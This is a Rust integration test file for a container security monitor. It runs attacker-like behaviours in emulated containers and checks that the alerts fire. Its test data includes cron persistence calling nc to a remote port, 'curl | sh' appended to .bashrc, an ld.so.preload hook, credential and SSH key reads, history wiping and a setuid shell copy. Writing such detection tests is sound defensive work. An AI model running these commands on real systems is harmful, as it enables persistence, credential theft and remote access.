//! The file collector end to end: the real `tasksentry run` (alerts mode, embedded default
//! rules, `--record` keeping every event) as the sidecar of an emulated Fargate task, real file
//! behaviours played inside containers, and the alerts and events it reports.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::Value;
use support::{Container, EmulatedTask, Monitor, recorded_events};

const TIMEOUT: Duration = Duration::from_secs(15);

/// Files and directories an image would ship, created before the container is watched.
fn seed_image(app: &Container) {
    let write = |path: &str, content: &str, mode: u32| {
        let host = app.host_path(path);
        std::fs::create_dir_all(host.parent().expect("a parent")).expect("mkdir");
        std::fs::write(&host, content).expect("write");
        std::fs::set_permissions(&host, std::fs::Permissions::from_mode(mode)).expect("chmod");
    };
    write("/etc/shadow", "root:*:19000:0:99999:7:::\n", 0o640);
    write("/etc/sudoers", "root ALL=(ALL) ALL\n", 0o440);
    write("/etc/gshadow", "root:*::\n", 0o640);
    write(
        "/root/.ssh/id_ed25519",
        "-----BEGIN OPENSSH PRIVATE KEY-----\n",
        0o600,
    );
    std::fs::create_dir_all(app.host_path("/usr/lib")).expect("mkdir /usr/lib");
    std::fs::create_dir_all(app.host_path("/var/tmp")).expect("mkdir /var/tmp");
    write("/root/.ash_history", "ls\ncat /etc/passwd\n", 0o600);
    write("/root/.bash_history", "id\n", 0o600);
    write(
        "/root/.aws/credentials",
        "[default]\naws_access_key_id=AKIA\n",
        0o600,
    );
    write("/var/lib/dpkg/status", "Package: base-files\n", 0o644);
    std::fs::create_dir_all(app.host_path("/dev/shm")).expect("mkdir /dev/shm");
    std::fs::set_permissions(
        app.host_path("/dev/shm"),
        std::fs::Permissions::from_mode(0o1777),
    )
    .expect("chmod /dev/shm");
}

fn start_monitor(task: &EmulatedTask, recording: &Path) -> Monitor {
    task.start_monitor(&[
        "run",
        "--rule-matching",
        "all",
        "--record",
        recording.to_str().expect("utf-8 path"),
    ])
    .expect("starting tasksentry run")
}

fn alert_matches(alert: &Value, rule: &str, container: &str, name: &str) -> bool {
    alert["rule"] == rule
        && alert["output_fields"]["container.id"] == container
        && alert["output_fields"]["fd.name"] == name
}

fn wait_for_alert(mon: &Monitor, rule: &str, container: &Container, name: &str) -> Value {
    mon.wait_for(|a| alert_matches(a, rule, container.id(), name), TIMEOUT)
        .unwrap_or_else(|error| {
            panic!(
                "no alert of rule {rule:?} for {name} in container {}: {error}",
                container.id()
            )
        })
}

/// Writes probe files below /etc until the monitor alerts on one: the container is watched.
fn wait_until_watched(mon: &Monitor, container: &Container) {
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut n = 0;
    loop {
        n += 1;
        let name = format!("/etc/ts-probe-{n}");
        container
            .run_ok(&["sh", "-c", &format!("echo probe > {name}")])
            .expect("writing a probe");
        match mon.wait_for(
            |a| alert_matches(a, "Write below etc", container.id(), &name),
            Duration::from_secs(1),
        ) {
            Ok(_) => return,
            Err(error) if error.eof || Instant::now() >= deadline => {
                panic!("the monitor never reported a probe write: {error}")
            }
            Err(_) => {}
        }
    }
}

/// Waits until the recording holds an event satisfying `predicate`.
fn wait_for_recorded(recording: &Path, mut predicate: impl FnMut(&Value) -> bool) -> Value {
    let deadline = Instant::now() + TIMEOUT;
    loop {
        if let Some(event) = recorded_events(recording).into_iter().find(&mut predicate) {
            return event;
        }
        if Instant::now() >= deadline {
            let events = recorded_events(recording);
            let mut kinds = std::collections::BTreeMap::<String, usize>::new();
            for e in &events {
                let kind = format!("{}/{}", e["evt"]["type"], e["internal"]["kind"]);
                *kinds.entry(kind).or_default() += 1;
            }
            let tail: Vec<String> = events.iter().rev().take(5).map(|e| e.to_string()).collect();
            panic!(
                "no matching event recorded within {TIMEOUT:?}; recorded by kind: {kinds:?}; last: {tail:#?}"
            );
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn each_default_file_rule_fires_on_its_behaviour_with_path_container_and_process() {
    let task = EmulatedTask::new().expect("task");
    let app = task.add_container("app").expect("container");
    seed_image(&app);
    let recording = task.dir().join("recording.ndjson");
    let mon = start_monitor(&task, &recording);
    wait_until_watched(&mon, &app);

    // (rule, command, fd.name of the alert)
    let behaviours: Vec<(&str, &str, &str)> = vec![
        (
            "Write below etc",
            "echo 'evil:x:0:0::/:/bin/sh' > /etc/passwd.new",
            "/etc/passwd.new",
        ),
        (
            "Write below binary or library directories",
            "echo '#!/bin/sh' > /usr/bin/implant",
            "/usr/bin/implant",
        ),
        (
            "Write below binary or library directories",
            "echo 'ELF' > /usr/lib/libevil.so",
            "/usr/lib/libevil.so",
        ),
        (
            "Write below root's home",
            "echo notes > /root/notes.txt",
            "/root/notes.txt",
        ),
        (
            "Cron or systemd persistence written",
            "mkdir -p /var/spool/cron/crontabs && echo '* * * * * nc 198.51.100.1 4444' > /var/spool/cron/crontabs/root",
            "/var/spool/cron/crontabs/root",
        ),
        (
            "Cron or systemd persistence written",
            "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/backdoor",
            "/etc/cron.d/backdoor",
        ),
        (
            "Cron or systemd persistence written",
            "mkdir -p /etc/systemd/system && echo '[Service]' > /etc/systemd/system/evil.service",
            "/etc/systemd/system/evil.service",
        ),
        (
            "SSH authorized_keys modified",
            "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3 attacker' >> /root/.ssh/authorized_keys",
            "/root/.ssh/authorized_keys",
        ),
        (
            "Shell configuration modified",
            "echo 'curl -s x | sh' >> /root/.bashrc",
            "/root/.bashrc",
        ),
        (
            "Shell configuration modified",
            "mkdir -p /etc/profile.d && echo 'export X=1' > /etc/profile.d/zz.sh",
            "/etc/profile.d/zz.sh",
        ),
        (
            "Shell configuration modified",
            "echo /tmp/hook.so > /etc/ld.so.preload",
            "/etc/ld.so.preload",
        ),
        (
            "Shell history deleted or truncated",
            ": > /root/.ash_history",
            "/root/.ash_history",
        ),
        (
            "Shell history deleted or truncated",
            "rm -f /root/.bash_history",
            "/root/.bash_history",
        ),
        (
            "Sensitive credential file read",
            "cat /etc/shadow > /dev/null",
            "/etc/shadow",
        ),
        (
            "Sensitive credential file read",
            "cat /etc/sudoers > /dev/null",
            "/etc/sudoers",
        ),
        (
            "Sensitive credential file read",
            "cat /root/.aws/credentials > /dev/null",
            "/root/.aws/credentials",
        ),
        (
            "Sensitive credential file read",
            "cat /etc/gshadow > /dev/null",
            "/etc/gshadow",
        ),
        (
            "Sensitive credential file read",
            "cat /root/.ssh/id_ed25519 > /dev/null",
            "/root/.ssh/id_ed25519",
        ),
        (
            "Setuid or setgid bit set",
            "cp /bin/busybox /tmp/rootsh && chmod 4755 /tmp/rootsh",
            "/tmp/rootsh",
        ),
        (
            "Hidden file created in a temporary directory",
            "echo x > /tmp/.cache-x",
            "/tmp/.cache-x",
        ),
        (
            "Executable dropped in a temporary directory",
            "echo '#!/bin/sh' > /dev/shm/payload && chmod +x /dev/shm/payload",
            "/dev/shm/payload",
        ),
        (
            "Executable dropped in a temporary directory",
            "cp /bin/busybox /var/tmp/tool && chmod 755 /var/tmp/tool",
            "/var/tmp/tool",
        ),
        (
            "Package database modified at runtime",
            "echo 'Package: ncat' >> /var/lib/dpkg/status",
            "/var/lib/dpkg/status",
        ),
    ];
    for (_, command, _) in &behaviours {
        app.run_ok(&["sh", "-c", command])
            .expect("playing a behaviour");
    }
    for (rule, command, name) in &behaviours {
        let alert = wait_for_alert(&mon, rule, &app, name);
        assert!(
            alert["tags"].as_array().is_some_and(|tags| tags
                .iter()
                .any(|t| t.as_str().is_some_and(|t| t.starts_with('T')))),
            "{rule}: MITRE technique tag: {alert}"
        );
        assert_eq!(
            alert["tasksentry"]["collector"], "fswatch",
            "{command}: {alert}"
        );
        let output = alert["output"].as_str().unwrap_or("");
        assert!(
            output.contains(name) && output.contains(app.id()),
            "{output}"
        );
    }

    // A writer that lives long enough is attributed: the shell holds the descriptor while it
    // writes (its `sleep` child inherited it too; the oldest holder, the shell, is named). The
    // final `true` keeps busybox sh from exec'ing its last command in place.
    let mut writer = app
        .spawn(&[
            "sh",
            "-c",
            "exec 3>>/etc/attributed.conf; sleep 1; echo data >&3; sleep 1; true",
        ])
        .expect("spawning the writer");
    let alert = mon
        .wait_for(
            |a| {
                alert_matches(a, "Write below etc", app.id(), "/etc/attributed.conf")
                    && a["tasksentry"]["event_type"] == "open"
            },
            TIMEOUT,
        )
        .expect("an alert for the attributed write");
    assert_eq!(alert["output_fields"]["proc.name"], "sh", "{alert}");
    assert!(
        alert["output_fields"]["proc.cmdline"]
            .as_str()
            .is_some_and(|c| c.contains("exec 3>>/etc/attributed.conf")),
        "{alert}"
    );
    let event = wait_for_recorded(&recording, |e| {
        e["evt"]["type"] == "open"
            && e["fd"]["name"] == "/etc/attributed.conf"
            && e["proc"].is_object()
    });
    assert_eq!(event["proc"]["pid"], writer.pid(), "{event}");
    assert_eq!(event["fd"]["open_write"], true, "{event}");
    assert_eq!(event["container"]["id"], app.id(), "{event}");
    let _ = writer.wait();

    // The recorded events carry the right shapes.
    let rename = {
        app.run_ok(&[
            "sh",
            "-c",
            "echo x > /etc/a.conf && mv /etc/a.conf /etc/b.conf",
        ])
        .expect("rename");
        wait_for_recorded(&recording, |e| {
            e["evt"]["type"] == "renameat" && e["fd"]["name"] == "/etc/b.conf"
        })
    };
    assert_eq!(rename["fd"]["oldname"], "/etc/a.conf", "{rename}");
    let setuid = wait_for_recorded(&recording, |e| {
        e["evt"]["type"] == "chmod" && e["fd"]["name"] == "/tmp/rootsh"
    });
    assert_eq!(
        setuid["fd"]["mode"].as_u64().map(|m| m & 0o7777),
        Some(0o4755),
        "{setuid}"
    );
    assert!(setuid.to_string().contains("S_ISUID"), "{setuid}");
}

#[test]
fn a_burst_of_file_events_overflows_the_queue_but_not_the_monitor() {
    let task = EmulatedTask::new().expect("task");
    let app = task.add_container("app").expect("container");
    let recording = task.dir().join("recording.ndjson");
    // Unsupervised: a supervisor resumes a stopped monitor at once (and it reports the stop).
    let mut mon = task
        .start_monitor(&[
            "run",
            "--supervise=false",
            "--rule-matching",
            "all",
            "--record",
            recording.to_str().expect("utf-8 path"),
        ])
        .expect("starting tasksentry run");
    wait_until_watched(&mon, &app);

    // The monitor is starved of CPU (stopped) while 20,000 files are created, written,
    // chmod'ed and written again in the container's /tmp, and half of them removed: 110,000
    // inotify events (create, modify, attrib, modify, close-after-write, delete), far more
    // than the kernel queue holds (16,384 by default). The files are made through the
    // container's root from the test (a busybox shell loop would take minutes); inotify sees
    // the same inodes either way.
    let stop = |signal| {
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(mon.worker_host_pid()), signal)
            .expect("signalling the monitor")
    };
    stop(nix::sys::signal::Signal::SIGSTOP);
    let tmp = app.host_path("/tmp");
    for i in 0..20_000 {
        let path = tmp.join(format!("burst-{i}"));
        let mut file = std::fs::File::create(&path).expect("create");
        std::io::Write::write_all(&mut file, b"x").expect("write");
        file.set_permissions(std::fs::Permissions::from_mode(0o600))
            .expect("chmod");
        std::io::Write::write_all(&mut file, b"y").expect("write");
        drop(file);
        if i % 2 == 0 {
            std::fs::remove_file(&path).expect("remove");
        }
    }
    stop(nix::sys::signal::Signal::SIGCONT);

    let overflow = wait_for_recorded(&recording, |e| {
        e["evt"]["type"] == "tasksentry" && e["internal"]["kind"] == "inotify_overflow"
    });
    assert_eq!(overflow["evt"]["collector"], "fswatch", "{overflow}");
    assert!(mon.is_running(), "the monitor survives the burst");
    // The rescan reports what changed (within its per-container limit).
    wait_for_recorded(&recording, |e| {
        e["evt"]["args"]
            .as_array()
            .is_some_and(|args| args.iter().any(|a| a[0] == "rescan"))
    });

    // Watching goes on: a write below /etc after the burst alerts.
    app.run_ok(&["sh", "-c", "echo x > /etc/after-burst"])
        .expect("write after the burst");
    wait_for_alert(&mon, "Write below etc", &app, "/etc/after-burst");
    assert!(mon.is_running());
}

#[test]
fn a_container_started_after_the_monitor_gets_its_watches() {
    let task = EmulatedTask::new().expect("task");
    let first = task.add_container("first").expect("first container");
    let recording = task.dir().join("recording.ndjson");
    let mon = start_monitor(&task, &recording);
    wait_until_watched(&mon, &first);

    let late = task.add_container("late").expect("late container");
    wait_until_watched(&mon, &late);
    late.run_ok(&[
        "sh",
        "-c",
        "mkdir -p /root/.ssh && echo k > /root/.ssh/authorized_keys",
    ])
    .expect("planting a key");
    let alert = wait_for_alert(
        &mon,
        "SSH authorized_keys modified",
        &late,
        "/root/.ssh/authorized_keys",
    );
    assert_eq!(alert["output_fields"]["container.id"], late.id());
}

#[test]
fn a_dropped_binary_with_a_forged_timestamp_is_known_as_written_after_start() {
    let task = EmulatedTask::new().expect("task");
    let app = task.add_container("app").expect("container");
    let recording = task.dir().join("recording.ndjson");
    let mon = start_monitor(&task, &recording);
    wait_until_watched(&mon, &app);

    // busybox picks its applet by file name: the dropped copy is called `sleep`.
    let marker = format!(
        "7.{}",
        support::random_hex(4)
            .bytes()
            .map(|b| char::from(b'0' + b % 10))
            .collect::<String>()
    );
    let mut dropped = app
        .spawn(&[
            "sh",
            "-c",
            &format!(
                "cp /bin/busybox /tmp/sleep && chmod +x /tmp/sleep && touch -d '2001-01-01 00:00:00' /tmp/sleep && exec /tmp/sleep {marker}"
            ),
        ])
        .expect("spawning the dropper");
    let alert = mon
        .wait_for(
            |a| {
                a["rule"] == "Binary created after the container started"
                    && a["output_fields"]["container.id"] == app.id()
            },
            TIMEOUT,
        )
        .expect("a drift alert");
    let output = alert["output"].as_str().unwrap_or("");
    assert!(
        output.contains("/tmp/sleep") && output.contains("written after the container started"),
        "{alert}"
    );
    let exec = wait_for_recorded(&recording, |e| {
        e["evt"]["type"] == "execve" && e["proc"]["exepath"] == "/tmp/sleep"
    });
    assert_eq!(exec["proc"]["exe_written_after_start"], true, "{exec}");
    // The forged mtime is what a timestamp check alone would have trusted.
    let mtime = exec["proc"]["exe_mtime"].as_str().unwrap_or("");
    assert!(mtime.starts_with("2001-01-01"), "{exec}");
    let _ = dropped.kill();

    // A program from the image is not drift.
    app.run_ok(&["sh", "-c", "sleep 0.2; true"])
        .expect("an image program");
    let image = wait_for_recorded(&recording, |e| {
        e["evt"]["type"] == "execve"
            && e["proc"]["exepath"] == "/bin/busybox"
            && e["container"]["id"] == app.id()
    });
    assert_eq!(image["proc"]["exe_written_after_start"], false, "{image}");
}

/// The watch-set example of docs/files.md, with one rule alerting on what it watches.
const WATCH_CONFIG: &str = "\
watch:
  - path: /srv/app
    recursive: true
    events: [write]
    priority: 70
";

const SRV_RULE: &str = "\
- rule: Application code written
  desc: A file below /srv/app was written.
  condition: evt.type in (open, openat) and evt.is_open_write = true and fd.name startswith /srv/app/
  output: Application file written %fd.name (container_id=%container.id)
  priority: WARNING
  tags: [filesystem, T1554]
";

#[test]
fn configured_watch_entries_report_and_removed_defaults_stay_silent() {
    let task = EmulatedTask::new().expect("task");
    let app = task.add_container("app").expect("container");
    seed_image(&app);
    // The application's tree ships with the image: an existing subdirectory is watched too.
    std::fs::create_dir_all(app.host_path("/srv/app/lib")).expect("mkdir /srv/app/lib");
    std::fs::write(app.host_path("/srv/app/lib/util.py"), "pass\n").expect("seed a file");
    let config = task.dir().join("tasksentry.yaml");
    std::fs::write(&config, WATCH_CONFIG).expect("writing the configuration");
    let rules = task.dir().join("srv.yaml");
    std::fs::write(&rules, SRV_RULE).expect("writing the rule");
    let recording = task.dir().join("recording.ndjson");
    let mut spec = support::MonitorSpec::new(&[
        "run".as_ref(),
        "--rule-matching".as_ref(),
        "all".as_ref(),
        "--config".as_ref(),
        config.as_os_str(),
        "--rules".as_ref(),
        rules.as_os_str(),
        "--record".as_ref(),
        recording.as_os_str(),
    ]);
    // The default temp group (/tmp, /var/tmp, /dev/shm) is removed through the variable.
    spec.env
        .push(("TASKSENTRY_WATCH_REMOVE".into(), "temp".into()));
    let mon = task
        .start_monitor_with(spec)
        .expect("starting tasksentry run");
    wait_until_watched(&mon, &app);

    // Removed default: a hidden executable in /tmp and a payload in /dev/shm go unseen.
    app.run_ok(&[
        "sh",
        "-c",
        "echo '#!/bin/sh' > /tmp/.hidden && chmod +x /tmp/.hidden && echo x > /dev/shm/payload",
    ])
    .expect("writing to /tmp");
    // Configured entry: writes in the existing tree, a new subdirectory, and the top level.
    app.run_ok(&[
        "sh",
        "-c",
        "echo 'import os' >> /srv/app/lib/util.py && mkdir -p /srv/app/plugins/new && echo x > /srv/app/plugins/new/evil.py && echo y > /srv/app/main.py",
    ])
    .expect("writing below /srv/app");
    for name in [
        "/srv/app/lib/util.py",
        "/srv/app/plugins/new/evil.py",
        "/srv/app/main.py",
    ] {
        let alert = wait_for_alert(&mon, "Application code written", &app, name);
        assert_eq!(alert["tasksentry"]["collector"], "fswatch", "{alert}");
    }
    // A later write below /etc is recorded after everything above.
    app.run_ok(&["sh", "-c", "echo x > /etc/after-config-check"])
        .expect("write below /etc");
    wait_for_recorded(&recording, |e| {
        e["evt"]["type"] == "open" && e["fd"]["name"] == "/etc/after-config-check"
    });
    let events = recorded_events(&recording);
    let named = |prefix: &str| -> Vec<&Value> {
        events
            .iter()
            .filter(|e| {
                e["evt"]["collector"] == "fswatch"
                    && e["fd"]["name"]
                        .as_str()
                        .is_some_and(|n| n.starts_with(prefix))
            })
            .collect()
    };
    assert!(named("/tmp/").is_empty(), "{:#?}", named("/tmp/"));
    assert!(named("/dev/shm/").is_empty(), "{:#?}", named("/dev/shm/"));
    // Write-only: no creat or mkdir below /srv/app, only writes.
    let app_events = named("/srv/app/");
    assert!(!app_events.is_empty());
    assert!(
        app_events
            .iter()
            .all(|e| e["evt"]["type"] == "open" && e["fd"]["open_write"] == true),
        "{app_events:#?}"
    );
    let silent = mon.events().into_iter().find(|a| {
        a["output_fields"]["fd.name"]
            .as_str()
            .is_some_and(|n| n.starts_with("/tmp/") || n.starts_with("/dev/shm/"))
    });
    assert!(silent.is_none(), "{silent:?}");
}

#[test]
fn an_invalid_watch_setting_stops_the_start_naming_it() {
    for (args, env, setting) in [
        (vec!["--watch", "srv/app recursive"], None, "`watch`"),
        (vec!["--watch", "/srv/app write,explode"], None, "`watch`"),
        (
            vec![],
            Some(("TASKSENTRY_WATCH_REMOVE", "tmp-files")),
            "`watch_remove`",
        ),
        (vec!["--watch-budget", "0"], None, "`watch_budget`"),
    ] {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_tasksentry"));
        command.arg("run").args(&args);
        if let Some((key, value)) = env {
            command.env(key, value);
        }
        let output = command.output().expect("running tasksentry");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(78), "{args:?}: {stderr}");
        assert!(stderr.contains(setting), "{args:?}: {stderr}");
    }
    // A file entry with an unknown key.
    let dir = tempfile::tempdir().expect("tempdir");
    let config = dir.path().join("c.yaml");
    std::fs::write(&config, "watch:\n  - path: /srv\n    recurse: true\n").expect("write");
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_tasksentry"))
        .arg("run")
        .arg("--config")
        .arg(&config)
        .output()
        .expect("running tasksentry");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(78), "{stderr}");
    assert!(
        stderr.contains("`watch`") && stderr.contains("recurse"),
        "{stderr}"
    );
}

/// The watches the default set costs in a container, counted the way the monitor counts them
/// (through the container's root as /proc shows it).
fn default_set_cost(container: &Container) -> usize {
    use tasksentry::collect::fswatch::{DriftRegistry, FsWatchConfig, FsWatcher};
    let mut watcher = FsWatcher::new(
        FsWatchConfig {
            max_watches: Some(1_000_000),
            ..FsWatchConfig::default()
        },
        None,
        std::sync::Arc::new(DriftRegistry::default()),
    )
    .expect("an inotify instance");
    let root = format!("/proc/{}/root", container.first_host_pid());
    let mut out = Vec::new();
    watcher
        .add_container(
            tasksentry::event::Container {
                id: "cost".into(),
                ..Default::default()
            },
            Path::new(&root),
            &mut out,
        )
        .expect("watching the container root");
    watcher.watch_count()
}

fn watch_limit_alert(mon: &Monitor, needle: &str) -> Value {
    mon.wait_for(
        |a| {
            a["rule"] == "TaskSentry hit an inotify watch limit"
                && a["output"].as_str().is_some_and(|o| o.contains(needle))
        },
        TIMEOUT,
    )
    .unwrap_or_else(|error| panic!("no watch_limit alert mentioning {needle:?}: {error}"))
}

#[test]
fn the_watch_budget_degrades_by_priority_and_reports_what_is_not_watched() {
    let task = EmulatedTask::new().expect("task");
    let first = task.add_container("first").expect("container");
    for i in 0..40 {
        std::fs::create_dir_all(first.host_path(&format!("/srv/app/d{i}"))).expect("mkdir");
    }
    // The budget holds the default set plus 10: the configured low-priority tree (41
    // directories) does not fit. No sysctl is touched: the collector honours its budget.
    let cost = default_set_cost(&first);
    let budget = cost + 10;
    let recording = task.dir().join("recording.ndjson");
    let mut mon = task
        .start_monitor(&[
            "run".to_string(),
            "--rule-matching".into(),
            "all".into(),
            "--record".into(),
            recording.display().to_string(),
            "--watch".into(),
            "/srv/app recursive priority=10 name=app-tree".into(),
            "--watch-budget".into(),
            budget.to_string(),
        ])
        .expect("starting tasksentry run");
    wait_until_watched(&mon, &first);
    let limited = watch_limit_alert(&mon, "app-tree");
    let output = limited["output"].as_str().unwrap_or("");
    assert!(
        output.contains("/srv/app (recursive)")
            && output.contains("not fully watched")
            && output.contains(first.id()),
        "the report names the group, its paths and the container: {limited}"
    );

    // A second container needs the same default set: the lowest-priority group in use
    // (app-tree) loses its watches everywhere so that its credentials and /etc are watched.
    let second = task.add_container("second").expect("second container");
    wait_until_watched(&mon, &second);
    let dropped = watch_limit_alert(&mon, "no longer watched in any container");
    assert!(
        dropped["output"]
            .as_str()
            .is_some_and(|o| o.contains("app-tree")),
        "the lowest priority goes first: {dropped}"
    );
    // Both containers' high-priority watches work.
    for (container, name) in [(&first, "/etc/budget-a"), (&second, "/etc/budget-b")] {
        container
            .run_ok(&["sh", "-c", &format!("echo x > {name}")])
            .expect("write below /etc");
        wait_for_alert(&mon, "Write below etc", container, name);
    }
    assert!(mon.is_running());
}
